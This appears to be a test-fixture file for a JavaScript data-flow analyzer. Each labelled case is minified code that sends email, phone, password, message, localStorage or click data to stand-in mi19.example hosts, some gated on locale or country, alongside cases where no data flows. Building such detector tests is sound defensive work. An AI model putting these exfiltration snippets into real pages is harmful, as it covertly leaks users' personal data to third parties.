//# statements-joined-by-commas
// flow: email > sjc.mi19.example via fetch
// why: a minifier joins statements: the field is cleared after it was sent
const form1={mail:document.querySelector('input[type=email]').value};fetch('https://sjc.mi19.example/a',{method:'POST',body:JSON.stringify(form1)}),form1.mail='';

//# near-cleared-before-by-commas
// no flow
// why: here it is cleared before, within the same expression
const form2={mail:document.querySelector('input[type=email]').value};form2.mail='',fetch('https://ncb.mi19.example/a',{method:'POST',body:JSON.stringify(form2)});

//# near-wiped-by-returned-sequence
// no flow
// why: `return delete e.mail, e` is a statement and a return
function wipe3(e){return delete e.mail,e}
fetch('https://nwr.mi19.example/a',{method:'POST',body:JSON.stringify(wipe3({mail:document.querySelector('input[type=email]').value}))});

//# near-wiped-by-arrow-with-sequence
// no flow
const wipe4=e=>(e.mail=void 0,e);
fetch('https://nwa.mi19.example/a',{method:'POST',body:JSON.stringify(wipe4({mail:document.querySelector('input[type=email]').value}))});

//# thrown-within-a-sequence
// flow: phone > tws.mi19.example via fetch
// guard: phone-prefix starts-with +49
function must5(ok,why){if(!ok)throw new Error(why)}
document.querySelector('#go').onclick=()=>{const t=document.querySelector('input[type=tel]').value;return must5(t.startsWith('+49'),'only here'),fetch('https://tws.mi19.example/t',{method:'POST',body:t})};

//# neither-of-two
// flow: email > not.mi19.example via fetch
// guard: language one-of sv-SE | nb-NO
// why: what a minifier makes of `if (l === a || l === b) send()`
"sv-SE"!==navigator.language&&"nb-NO"!==navigator.language||fetch('https://not.mi19.example/a',{method:'POST',body:document.querySelector('input[type=email]').value});

//# mode-under-a-turned-comparison
// flow: interaction > mtc.mi19.example via beacon
// guard: country equals CN
let mode7="quiet";"CN"===document.documentElement.getAttribute("data-country")&&(mode7="record"),document.addEventListener("click",e=>{"record"===mode7&&navigator.sendBeacon("https://mtc.mi19.example/",e.pageX+":"+e.pageY)});

//# near-arm-of-a-choice-returns-first
// no flow
// why: `?:` with sequences is an `if` with two returns; the arm that is taken wipes
function clean8(e){return"login"===e.type?(e.mail="",e):(console.log("kept"),e)}
fetch('https://nar.mi19.example/a',{method:'POST',body:JSON.stringify(clean8({type:'login',mail:document.querySelector('input[type=email]').value}))});

//# work-at-the-start-of-a-loop
// flow: message > wsl.mi19.example via fetch
// why: `for (q.push(a); …)` pushes before the loop runs
const q9=[];for(q9.push(document.querySelector('textarea[name=message]').value);q9.length;)fetch('https://wsl.mi19.example/m',{method:'POST',body:q9.shift()});

//# work-in-a-condition
// flow: email > wic.mi19.example via fetch
function S10(o){if(this.o=o,this.o.host=this.o.host||"https://wic.mi19.example",!o.id)throw new Error("id");this.url=this.o.host+"/in"}
S10.prototype.send=function(t){fetch(this.url,{method:'POST',body:t})};
window.start10=o=>new S10(o).send(document.querySelector('input[type=email]').value);

//# option-defaulted-where-it-is-kept
// flow: device > odk.mi19.example via fetch
// why: the object is known by the parameter, and what is put into it stands behind the field that keeps it
class C11{constructor(o){this.options=o;this.options.host||(this.options.host="https://odk.mi19.example")}send(){fetch(this.options.host+"/d",{method:'POST',body:navigator.userAgent})}}
window.start11=o=>new C11(o).send();

//# near-option-of-another-object
// flow: device > ? via fetch
// why: the default is put into an object of its own
class C12{constructor(o){this.options=o;this.mine={};this.mine.host="https://noa.mi19.example"}send(){fetch(this.options.host+"/d",{method:'POST',body:navigator.userAgent})}}
window.start12=o=>new C12(o).send();

//# helper-of-esbuild-spreads
// flow: email > new.mi19.example via fetch
// why: what `{...defaults, ...given}` becomes for older browsers; the later one wins
var def13=Object.defineProperty,syms13=Object.getOwnPropertySymbols,has13=Object.prototype.hasOwnProperty,enu13=Object.prototype.propertyIsEnumerable;
var put13=(o,k,v)=>k in o?def13(o,k,{enumerable:!0,configurable:!0,writable:!0,value:v}):o[k]=v;
var spread13=(a,b)=>{for(var k in b||(b={}))has13.call(b,k)&&put13(a,k,b[k]);if(syms13)for(var k of syms13(b))enu13.call(b,k)&&put13(a,k,b[k]);return a};
const defaults13={url:'https://old.mi19.example/x'};
const post13=(v,o)=>{const{url}=spread13(spread13({},defaults13),o);return fetch(url,{method:'POST',body:v})};
post13(document.querySelector('input[type=email]').value,{url:'https://new.mi19.example/x'});

//# near-defaults-do-not-replace
// flow: email > giv.mi19.example via fetch
// why: this helper only fills in what is missing: the first one wins
function fill14(a,b){for(var k in b)a[k]===void 0&&(a[k]=b[k]);return a}
const own14={url:'https://giv.mi19.example/x'};
fetch(fill14(own14,{lang:'de'}).url,{method:'POST',body:document.querySelector('input[type=email]').value});

//# near-copy-by-a-helper-is-taken-before
// no flow
var copy15=(a,b)=>{for(var k in b||(b={}))Object.prototype.hasOwnProperty.call(b,k)&&(a[k]=b[k]);return a};
const state15={v:1},sent15=copy15({},state15);state15.pw=document.querySelector('input[type=password]').value,fetch('https://nct.mi19.example/s',{method:'POST',body:JSON.stringify(sent15)});

//# all-of-storage-by-a-helper
// flow: identifier > asb.mi19.example via fetch
var copy16=(a,b)=>{for(var k in b||(b={}))Object.prototype.hasOwnProperty.call(b,k)&&(a[k]=b[k]);return a};
fetch('https://asb.mi19.example/s',{method:'POST',body:JSON.stringify(copy16({},localStorage))});

//# jquery-by-a-parameter
// flow: email > jbp.mi19.example via xhr
// why: the usual frame of a plugin, minified
!function(t){t("#go").on("click",function(){t.post("https://jbp.mi19.example/x",{m:t("input[type=email]").val()})})}(jQuery);

//# jquery-handed-over-when-ready
// flow: email > jhr.mi19.example via xhr
jQuery(document).ready(function(n){n("input[type=email]").on("blur",function(){n.ajax({url:"https://jhr.mi19.example/x",method:"POST",data:{m:n(this).val()}})})});

//# jquery-by-a-loader-or-the-page
// flow: email > jbl.mi19.example via xhr
!function(e){"function"==typeof define&&define.amd?define(["jquery"],e):e(jQuery)}(function(t){t.fn.sendMail=function(){return this.each(function(){t.get("https://jbl.mi19.example/x",{m:t("input[type=email]").val()})})}});

//# near-parameter-that-is-not-jquery
// no flow
// why: the function is given a store of the script with a method of that name
!function(t){t.post("https://npn.mi19.example/x",{m:document.querySelector("input[type=email]").value})}({post(url,data){console.log(url,Object.keys(data).length)}});
